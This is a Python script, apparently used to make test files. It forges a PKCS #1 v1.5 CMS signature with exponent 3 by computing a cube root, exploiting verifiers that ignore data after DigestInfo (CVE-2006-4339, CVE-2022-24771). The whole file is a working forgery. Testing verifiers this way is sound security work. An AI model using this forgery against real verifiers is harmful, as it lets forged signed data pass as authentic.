"""A PKCS #1 v1.5 signature made without the private key, for verifiers that do not look at what follows DigestInfo
(CVE-2006-4339, CVE-2022-24771 and others): with the exponent 3 a cube root is enough."""
import hashlib
import subprocess

from make_parts import children, encode, inside


def openssl(*arguments):
    subprocess.run(["openssl", *arguments], check=True, stderr=subprocess.DEVNULL)


openssl("genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-pkeyopt", "rsa_keygen_pubexp:3", "-out", "rsa3.key")
openssl("req", "-new", "-key", "rsa3.key", "-utf8", "-subj", "/C=CN/O=信符测试/CN=Exponent 3", "-out", "rsa3.csr")
openssl("x509", "-req", "-in", "rsa3.csr", "-CA", "authority.pem", "-CAkey", "authority.key", "-days", "36500", "-out", "rsa3.pem")
openssl("cms", "-sign", "-binary", "-nodetach", "-in", "small.csv", "-signer", "rsa3.pem", "-inkey", "rsa3.key", "-md", "sha256",
        "-outform", "DER", "-out", "rsa3.der")
message = open("rsa3.der", "rb").read()
body = children(inside(inside(children(inside(message))[1])))
signer = children(inside(inside(body[-1])))
attributes = b"\x31" + signer[3][1:]
prefix = (b"\x00\x01" + b"\xff" * 8 + b"\x00" + bytes.fromhex("3031300d060960864801650304020105000420") +
          hashlib.sha256(attributes).digest())
low = int.from_bytes(prefix + b"\x00" * (256 - len(prefix)), "big")
root = 1 << (low.bit_length() + 2) // 3
while True:  # Newton's method, downwards to the cube root
    better = (2 * root + low // (root * root)) // 3
    if better >= root:
        break
    root = better
root += 1
assert (root ** 3).to_bytes(256, "big").startswith(prefix)
signer[5] = encode(0x04, root.to_bytes(256, "big"))
info = encode(0x30, *signer)
whole = encode(0x30, *body[:-1], encode(0x31, info))
open("forged.der", "wb").write(encode(0x30, children(inside(message))[0], encode(0xA0, whole)))
